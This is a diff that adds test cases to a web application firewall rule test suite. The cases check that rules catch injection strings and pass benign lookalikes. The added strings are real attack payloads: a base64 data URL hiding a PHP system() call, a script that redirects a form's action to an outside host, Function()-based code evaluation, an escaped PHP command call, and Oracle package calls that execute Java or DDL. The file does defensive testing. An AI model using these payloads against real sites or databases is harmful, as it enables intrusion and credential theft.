@@ -133,4 +133,18 @@ describe("edge.waf.rules seventy-seventh set on", function()
         caught_by(142220, { "'--", "\")#", ") --" })
         clean({ "--", "#", " -- ", "---" })
     end)
+
+    it("a data: URL with parameters, a form's action hijacked, Function() on strings, PHP escapes called", function()
+        caught_by(130140, { "data:text/plain;charset=utf-8;base64,PD9waHAgc3lzdGVtKCk7Pz4=" })
+        caught_by(141140, { "'}); document.forms[1].action='https://x.example/';//", "Function('al'+'ert(1)')()",
+            "new Function(\"return 1\")()" })
+        caught_by(133100, { "(\"\\163\\171\\163\")('id')" })
+        clean({ "data:image/png;charset=x;base64,iVBORw0KGgo", "a function('x') call", "the form's action URL" })
+    end)
+
+    it("SQL: Oracle's packages called, a schema's charset switched", function()
+        caught_by(142160, { "dbms_java.runjava('x')", "DBMS_OUTPUT.PUT_LINE(1)", "dbms_utility.exec_ddl_statement('x')" })
+        caught_by(142230, { "ALTER SCHEMA app DEFAULT CHARSET big5", "alter database shop character set = gbk" })
+        clean({ "dbms output is noisy", "alter the schema's default charset later" })
+    end)
 end)
